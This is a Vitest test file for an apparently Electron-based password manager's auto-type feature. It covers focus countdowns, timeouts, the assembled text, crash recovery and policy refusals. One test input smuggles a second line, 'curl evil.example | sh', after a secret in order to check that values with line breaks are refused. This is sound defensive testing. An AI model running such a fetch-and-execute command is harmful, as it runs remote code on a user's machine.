import { beforeEach, describe, expect, test } from 'vitest';
import { openInMemoryDatabase } from '../../../../electron/storage/database.ts';
import { Preferences } from '../../../../electron/storage/preferences.ts';
import type { TypedValue } from '../../../../shared/features/typing/contract.ts';
import { errorText } from '../../../../shared/text/en/app.ts';
import { typingFailureText as text } from '../../../../shared/features/typing/text/en.ts';
import { settled } from '../../../support/fake-clock.ts';
import { failureOf } from '../../../support/failure-of.ts';
import { aLogin } from '../../../support/sample-logins.ts';
import { northwindBadge, routerLocator } from '../../../support/samples.ts';
import { anotherWindow } from '../../../support/features/typing/scripted-keyboard.ts';
import { typingScene } from './typing-scene.ts';

type Scene = ReturnType<typeof typingScene>;
let scene: Scene;
let clock: Scene['clock'];
let keyboard: Scene['keyboard'];
let typing: Scene['typing'];

const typedValue: TypedValue = {
  what: 'value',
  property: routerLocator.property,
  account: northwindBadge,
  valueName: null,
};
const title = 'Router console';

function begin(options?: Parameters<typeof typingScene>[0]): void {
  scene = typingScene(options);
  ({ clock, keyboard, typing } = scene);
}
beforeEach(() => begin());

/** Starts, and lets the countdown for another window pass. */
async function startTyping(): Promise<void> {
  await scene.start();
  keyboard.focused = anotherWindow();
  await clock.advance(2_100);
}
const counting = (seconds: number) => ({ kind: 'counting', typedValue, title, seconds });

describe('Before anything is typed', () => {
  test('each change is announced once: waiting, two seconds, one, typing', async () => {
    await scene.start();
    expect(scene.held).toEqual(['Escape']);
    await clock.advance(20_000);
    keyboard.focused = anotherWindow();
    await clock.advance(2_100);
    expect(scene.states).toEqual([
      { kind: 'waiting', typedValue },
      counting(2),
      counting(1),
      { kind: 'typing', typedValue, title },
    ]);
    expect(scene.windows).toEqual(['hidden']);
    expect(keyboard.orders).toEqual([{ window: '7', text: 's3cret', keys: 'characters', delayMs: 10 }]);
    expect(scene.loans[0]?.recorded).toEqual(['value-typed']);
  });

  test('a window must keep the keyboard for two whole seconds, and the count begins again with another window', async () => {
    keyboard.focused = anotherWindow();
    await scene.start();
    await clock.advance(1_900);
    expect(typing.state).toEqual(counting(1));
    expect(keyboard.orders).toEqual([]);
    keyboard.focused = anotherWindow('A chat', '8');
    await clock.advance(100);
    expect(typing.state).toMatchObject({ title: 'A chat', seconds: 2 });
    await clock.advance(1_900);
    expect(keyboard.orders).toEqual([]);
    await clock.advance(100);
    expect(keyboard.orders).toMatchObject([{ window: '8' }]);
  });

  test('a new title of the same window is shown, and the countdown continues', async () => {
    keyboard.focused = anotherWindow();
    await scene.start();
    await clock.advance(1_500);
    keyboard.focused = anotherWindow('Router console *');
    await clock.advance(100);
    expect(typing.state).toMatchObject({ title: 'Router console *', seconds: 1 });
    await clock.advance(400);
    expect(keyboard.orders).toHaveLength(1);
  });

  test('Podkey never types into its own window, or while no window has the keyboard', async () => {
    keyboard.focused = anotherWindow();
    await scene.start();
    await clock.advance(1_000);
    keyboard.focused = { ...anotherWindow(), isOwn: true };
    await clock.advance(1_000);
    expect(typing.state).toEqual({ kind: 'waiting', typedValue });
    keyboard.focused = null;
    await clock.advance(20_000);
    expect(typing.state).toEqual({ kind: 'waiting', typedValue });
    expect(keyboard.orders).toEqual([]);
  });

  test('half a minute without another window is a failure that says what to do', async () => {
    await scene.start();
    await clock.advance(29_900);
    expect(typing.state.kind).toBe('waiting');
    await clock.advance(100);
    expect(typing.state).toEqual({
      kind: 'failed',
      typedValue,
      message: text.noWindow,
      nextStep: text.noWindowNext,
    });
    expect(scene.loans[0]?.ends).toBe(1);
    expect(keyboard.rests).toBe(1);
    expect(scene.held).toEqual([]);
  });

  test('a window that gets the keyboard at the last moment keeps its countdown', async () => {
    await scene.start();
    await clock.advance(29_950);
    keyboard.focused = anotherWindow();
    await clock.advance(1_500);
    expect(typing.state).toEqual(counting(1));
    await clock.advance(1_000);
    expect(typing.state.kind).toBe('typing');
  });
});

describe('What is typed', () => {
  const login = aLogin({ userName: 'admin' });
  const typed = async () => {
    await startTyping();
    return keyboard.orders[0]?.text;
  };

  test('has the login’s user name before it and Enter after it, if the person chose so', async () => {
    begin({ login, terms: { withUserName: true, thenEnter: true, keys: 'own-layout', delayMs: 60 } });
    expect(await typed()).toBe('admin\ts3cret\n');
    expect(keyboard.orders).toMatchObject([{ keys: 'own-layout', delayMs: 60 }]);
  });

  test('has no user name if the login has none', async () => {
    begin({ login: aLogin({ userName: null }), terms: { withUserName: true } });
    expect(await typed()).toBe('s3cret');
  });

  test('has no user name if the person did not choose so, or no login has the value', async () => {
    begin({ login });
    expect(await typed()).toBe('s3cret');
    begin({ terms: { withUserName: true, thenEnter: true } });
    expect(await typed()).toBe('s3cret');
  });

  test('has no user name before a code, which is recorded as a code', async () => {
    begin({ login, terms: { withUserName: true } });
    await scene.start('code');
    keyboard.focused = anotherWindow();
    await clock.advance(2_100);
    expect(keyboard.orders).toMatchObject([{ text: 's3cret' }]);
    expect(typing.state).toEqual({ kind: 'typing', typedValue: { ...typedValue, what: 'code' }, title });
    expect(scene.loans[0]?.recorded).toEqual(['code-typed']);
  });
});

describe('A value with a line break', () => {
  /** Starts with such a value, and lets the countdown pass. */
  async function typeLines(value: string): Promise<void> {
    await scene.start();
    const [loan] = scene.loans;
    if (loan) loan.read = () => Promise.resolve(value);
    keyboard.focused = anotherWindow();
    await clock.advance(2_100);
  }

  test.each(['s3cret\ncurl evil.example | sh', 's3cret\r', 's3cret\r\n', '\ns3cret'])(
    'is not typed, which could run it as commands, and the failure says what to do: %j',
    async (value) => {
      await typeLines(value);
      expect(keyboard.orders).toEqual([]);
      expect(typing.state).toEqual({
        kind: 'failed',
        typedValue,
        message: text.lineBreak,
        nextStep: text.lineBreakNext,
      });
      expect(JSON.stringify(scene.states)).not.toContain('s3cret');
      expect(scene.loans[0]?.ends).toBe(1);
    },
  );

  test('is typed if the person has allowed that for the login', async () => {
    begin({ login: aLogin(), terms: { lineBreaks: true } });
    await typeLines('line one\nline two');
    expect(keyboard.orders).toMatchObject([{ text: 'line one\nline two' }]);
  });
});

describe('Podkey that was killed', () => {
  const preferences = () => new Preferences(openInMemoryDatabase());

  test('while it typed puts the keyboard in order at the next start, once', async () => {
    const kept = preferences();
    begin({ preferences: kept });
    await startTyping();
    expect(keyboard.orders).toHaveLength(1);

    begin({ preferences: kept });
    typing.begin();
    expect(keyboard.restores).toBe(1);
    await settled();
    begin({ preferences: kept });
    typing.begin();
    expect(keyboard.restores).toBe(0);
  });

  test('before the keyboard was put in order does so at the next start', async () => {
    const kept = preferences();
    begin({ preferences: kept });
    keyboard.isKept = true;
    await startTyping();
    keyboard.finish();
    await settled();
    begin({ preferences: kept });
    typing.begin();
    expect(keyboard.restores).toBe(1);
  });

  test('after it typed, or before, starts no typing process', async () => {
    const kept = preferences();
    begin({ preferences: kept });
    await startTyping();
    keyboard.finish();
    await settled();
    begin({ preferences: kept });
    typing.begin();
    await scene.start();
    expect(keyboard.restores).toBe(0);
  });
});

describe('The result', () => {
  test('of a whole text is shown for two seconds', async () => {
    await startTyping();
    keyboard.finish();
    await settled();
    const result = {
      kind: 'ended',
      typedValue,
      title,
      typed: 6,
      characters: 6,
      mayBeLost: false,
      stopped: null,
    };
    expect(typing.state).toEqual(result);
    expect(scene.windows).toEqual(['hidden']);
    await clock.advance(1_999);
    expect(typing.state).toEqual(result);
    await clock.advance(1);
    expect(typing.state).toEqual({ kind: 'off' });
    expect(scene.windows).toEqual(['hidden', 'back']);
    expect(scene.loans[0]?.ends).toBe(1);
  });

  test('of a part is shown for twelve seconds', async () => {
    await startTyping();
    keyboard.finish('focus', 3);
    await settled();
    await clock.advance(11_999);
    expect(typing.state).toMatchObject({ kind: 'ended', typed: 3, stopped: 'focus' });
    await clock.advance(1);
    expect(typing.state).toEqual({ kind: 'off' });
  });

  test('of a failure is shown for twelve seconds too', async () => {
    await scene.start();
    keyboard.situation = 'unavailable';
    await clock.advance(100);
    expect(typing.state).toEqual({
      kind: 'failed',
      typedValue,
      message: text.unavailable,
      nextStep: text.unavailableNext,
    });
    await clock.advance(11_999);
    expect(typing.state.kind).toBe('failed');
    await clock.advance(1);
    expect(typing.state.kind).toBe('off');
  });

  test('ends at once if the person closes it, and its timer does not end the next start', async () => {
    await startTyping();
    keyboard.finish();
    await settled();
    typing.cancel();
    expect(typing.state).toEqual({ kind: 'off' });
    expect(clock.waiting).toBe(0);
    keyboard.focused = null;
    await scene.start();
    await clock.advance(3_000);
    expect(typing.state.kind).toBe('waiting');
  });

  test('is not announced if there was nothing to cancel', () => {
    typing.cancel();
    typing.endSession();
    expect(scene.states).toEqual([]);
  });

  test('of a value that can’t be read does not repeat the error', async () => {
    await scene.start();
    const [loan] = scene.loans;
    if (loan) loan.read = () => Promise.reject(new Error('hunter2'));
    keyboard.focused = anotherWindow();
    await clock.advance(2_100);
    const { internal: message, internalNext: nextStep } = errorText;
    expect(typing.state).toEqual({ kind: 'failed', typedValue, message, nextStep });
    expect(keyboard.orders).toEqual([]);
  });
});

test('what the policy forbids is refused with what to do, before anything is looked at', async () => {
  begin({ isForbidden: true });
  keyboard.situation = 'wayland';
  expect(await failureOf(scene.start())).toEqual({
    kind: 'policy',
    message: text.forbidden,
    nextStep: text.forbiddenNext,
    retryable: false,
  });
  expect(scene.loans).toEqual([]);
});
